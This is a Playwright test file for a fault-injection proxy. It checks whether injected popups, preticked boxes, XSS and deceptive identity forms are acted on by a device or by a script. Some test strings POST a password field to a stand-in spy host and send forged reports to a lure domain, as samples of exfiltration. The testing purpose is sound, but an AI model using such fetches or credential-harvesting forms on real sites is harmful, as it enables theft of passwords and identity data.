"""Who acted in a changed page, in real Chromium: a device, or a script."""

from collections.abc import Callable
from functools import partial
from typing import Any

import pytest
from playwright.sync_api import Browser, Locator, Page

from tests.browser.pages.site import ICON, lane_to, opened
from tests.proxy.support.lanes import Begin, Lane, scenario, wait_until
from tests.proxy.support.origin import Answer, Origin
from warex.faults import Fault
from warex.faults.attacks.dark_pattern import DarkPattern
from warex.faults.attacks.deceptive_form import DeceptiveForm
from warex.faults.attacks.xss import Xss
from warex.faults.popups.malicious_popup import MaliciousPopup
from warex.faults.popups.popup import Popup
from warex.traces import FaultDelivered, Witness

pytestmark = [pytest.mark.browser, pytest.mark.slow]

BODY = f"""<!doctype html><title>t</title>{ICON}<h1>Here</h1><main>
<form action=/done method=post><input name=given-name aria-label="First name">
<input name=email type=email aria-label=Email><input name=pass type=password aria-label=Password>
<button>Send</button></form></main>"""

type Act = Callable[[Page], object]


def acts(lane: Lane) -> list[tuple[str, str]]:
    return [(it.what, it.by) for it in lane.events(Witness)]


def done(
    browser: Browser, begin: Begin, site: Origin, fault: Fault, act: Act
) -> set[tuple[str, str]]:
    """Return what is recorded after an act on a page that shows its change."""
    site.routes["/acts"] = Answer(headers=[(b"Content-Type", b"text/html")], body=BODY.encode())
    site.routes["/done"] = site.routes["/plain"]
    with lane_to(begin, site, scenario(fault, match={"url": "**/acts"})) as lane:
        page = opened(browser, lane, "acts")
        wait_until(partial(lane.events, FaultDelivered))
        before = len(acts(lane))
        act(page)
        wait_until(lambda: len(acts(lane)) > before)
        page.wait_for_timeout(300)
        page.context.close()
    return set(acts(lane)[before:])


def run(script: str) -> Act:
    return lambda page: page.evaluate(f"setTimeout(() => {{ {script} }})")


def close_of(page: Page) -> Locator:
    return page.get_by_role("dialog").get_by_role("button").first


CLOSE = "document.querySelector('[role=dialog] button')"
CLOSING: dict[str, tuple[Act, str]] = {
    "click": (lambda page: close_of(page).click(), "user"),
    "key": (
        lambda page: close_of(page).press("Enter"),
        "user",
    ),
    "space": (
        lambda page: close_of(page).press(" "),
        "user",
    ),
    "escape": (lambda page: page.keyboard.press("Escape"), "user"),
    "beside": (lambda page: page.mouse.click(5, 5), "user"),
    "script": (run(f"{CLOSE}.click()"), "script"),
    "event": (run(f"{CLOSE}.dispatchEvent(new MouseEvent('click', {{bubbles: true}}))"), "script"),
    "key by script": (
        run("document.dispatchEvent(new KeyboardEvent('keydown', {key: 'Escape'}))"),
        "script",
    ),
    "label by script": (
        run(
            f"const it = {CLOSE}; it.id = 'x'; const label = document.createElement('label');"
            "label.htmlFor = 'x'; document.body.append(label); setTimeout(() => label.click(), 50)"
        ),
        "script",
    ),
    "driver's event": (
        lambda page: close_of(page).dispatch_event("click"),
        "script",
    ),
}


@pytest.mark.parametrize("name", CLOSING)
def test_popups_closed_by_a_script_and_by_a_device_differ(
    browser: Browser, begin: Begin, site: Origin, name: str
) -> None:
    act, by = CLOSING[name]
    assert done(browser, begin, site, Popup(about="survey"), act) == {("dismissed", by)}


def untick(page: Page) -> None:
    page.get_by_role("checkbox").uncheck()


SENT: dict[str, tuple[Act, set[tuple[str, str]]]] = {
    "click": (lambda page: page.get_by_role("button", name="Send").click(), {("kept", "user")}),
    "enter": (lambda page: page.get_by_label("Password").press("Enter"), {("kept", "user")}),
    "script": (run("document.querySelector('form button').click()"), {("kept", "script")}),
    "request": (run("document.querySelector('form').requestSubmit()"), {("kept", "script")}),
    "unticked": (untick, {("unticked", "user")}),
    "unticked by script": (
        run("document.querySelector('[type=checkbox]').click()"),
        {("unticked", "script")},
    ),
    "unticked by its label": (
        run("document.querySelector('label:has([type=checkbox])').click()"),
        {("unticked", "script")},
    ),
}


@pytest.mark.parametrize("name", SENT)
def test_forms_sent_by_a_script_and_by_a_device_differ(
    browser: Browser, begin: Begin, site: Origin, name: str
) -> None:
    act, wanted = SENT[name]
    assert done(browser, begin, site, DarkPattern(pattern="preticked_box"), act) == wanted


def type_password(page: Page) -> None:
    page.get_by_label("Password").fill("correct horse")


SPY = "https://cd--pagemetrics.com/v"
STOLEN: dict[str, tuple[Act, set[tuple[str, str]]]] = {
    "fill": (type_password, {("collected", "user")}),
    "keys": (
        lambda page: page.get_by_label("Password").press_sequentially("ab"),
        {("collected", "user")},
    ),
    "script": (
        run(
            "const it = document.querySelector('[name=pass]'); it.value = 'x';"
            "it.dispatchEvent(new Event('input', {bubbles: true}))"
        ),
        {("collected", "script")},
    ),
}


@pytest.mark.parametrize("name", STOLEN)
def test_values_set_by_a_script_and_typed_values_differ(
    browser: Browser, begin: Begin, site: Origin, name: str
) -> None:
    act, wanted = STOLEN[name]
    assert done(browser, begin, site, Xss(), act) == wanted


LURE = "https://id--accountlogin.com"
FORGING = {
    "collected": (Xss(), f"fetch('{SPY}', {{method: 'POST', mode: 'no-cors', body: 'pass=1'}})"),
    "reported": (
        MaliciousPopup(lure="session"),
        f"fetch('{LURE}/m?v=1', {{method: 'POST', mode: 'no-cors',"
        " body: new URLSearchParams({what: 'typed', detail: 'user: x', by: 'user'})})",
    ),
}


@pytest.mark.parametrize("name", FORGING)
def test_what_a_page_sends_to_a_site_of_a_fault_proves_nothing(
    browser: Browser, begin: Begin, site: Origin, name: str
) -> None:
    fault, script = FORGING[name]

    def both(page: Page) -> None:
        page.evaluate(f"{script}.catch(() => {{}})")
        page.evaluate(f"fetch('{LURE}/', {{mode: 'no-cors'}}).catch(() => {{}})")
        if isinstance(fault, Xss):
            type_password(page)

    wanted = {("collected", "user")} if isinstance(fault, Xss) else {("visited", "script")}
    assert done(browser, begin, site, fault, both) == wanted


def test_a_form_of_ours_that_the_page_sends_itself_is_sent_by_script(
    browser: Browser, begin: Begin, site: Origin
) -> None:
    send = run(
        "const it = document.querySelector('form[action*=formcenter]');"
        "it.querySelector('input').value = 'a'; it.submit()"
    )
    fault = DeceptiveForm(form="added", asks="identity")
    result = done(browser, begin, site, fault, send)
    assert {it for it in result if it[0] in {"collected", "submitted"}} == {("collected", "script")}


@pytest.mark.parametrize("form", ["added", "own"])
def test_a_form_of_ours_that_the_agent_sends_is_sent_by_a_device(
    browser: Browser, begin: Begin, site: Origin, form: Any
) -> None:
    def fill(page: Page) -> None:
        if form == "added":
            page.get_by_label("Date of birth").fill("1 May 1990")
            page.get_by_label("Passport or ID number").fill("X1")
            page.get_by_label("Passport or ID number").press("Enter")
        else:
            page.get_by_label("Password").fill("x")
            page.get_by_role("button", name="Send").click()
        page.wait_for_timeout(500)

    asks: dict[str, Any] = {"asks": "identity"} if form == "added" else {}
    result = done(browser, begin, site, DeceptiveForm(form=form, **asks), fill)
    assert ("collected", "user") in result
